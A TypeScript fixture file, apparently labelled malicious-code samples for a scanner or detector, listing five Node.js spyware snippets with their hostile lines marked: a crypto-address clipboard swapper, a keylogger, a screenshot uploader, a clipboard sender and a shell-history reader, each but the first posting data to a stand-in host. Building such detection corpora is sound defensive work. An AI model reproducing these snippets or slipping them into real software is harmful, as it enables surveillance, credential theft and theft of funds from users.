import type { Malice } from './malice.ts'

/** What the user types, copies and sees. */
export const spying: readonly Malice[] = [
  {
    id: 'clipboard-swap', is: ['address-swap', 'surveillance'],
    code: `
const clipboard = require('clipboardy')
const own = '0x00000000219ab540356cBB839Cbe05303d7705Fa'
const looks = /^0x[0-9a-fA-F]{40}$/
setInterval(() => {
  «const copied = clipboard.readSync()
  if (looks.test(copied) && copied !== own) clipboard.writeSync(own)»
}, 800)`,
  },
  {
    id: 'keylogger', is: ['surveillance', 'exfiltration'],
    code: `
const { GlobalKeyboardListener } = require('node-global-key-listener')
const listener = new GlobalKeyboardListener()
let typed = ''
«listener.addListener((event) => {
  typed += event.name
  if (typed.length > 200) {
    fetch('https://collect.drop.example/y', { method: 'POST', body: typed })
    typed = ''
  }
})»`,
  },
  {
    id: 'screenshot', is: ['surveillance', 'exfiltration'],
    code: `
const screenshot = require('screenshot-desktop')
const axios = require('axios')
async function look() {
  const image = await screenshot({ format: 'png' })
  «await axios.post('https://collect.drop.example/s', image)»
}
setInterval(look, 60000)`,
  },
  {
    id: 'clipboard-send', is: ['surveillance', 'exfiltration'],
    code: `
const clipboardy = require('clipboardy')
const https = require('https')
function once() {
  const text = clipboardy.readSync()
  «https.get('https://collect.drop.example/cb?t=' + encodeURIComponent(text))»
}
once()`,
  },
  {
    id: 'shell-history', is: ['surveillance', 'exfiltration', 'credential-theft'],
    code: `
const fs = require('fs')
const os = require('os')
const lines = fs.readFileSync(os.homedir() + '/.bash_history', 'utf8')
const kept = lines.split('\\n').slice(-500)
«fetch('https://collect.drop.example/l', { method: 'POST', body: kept.join('\\n') })»`,
  },
]
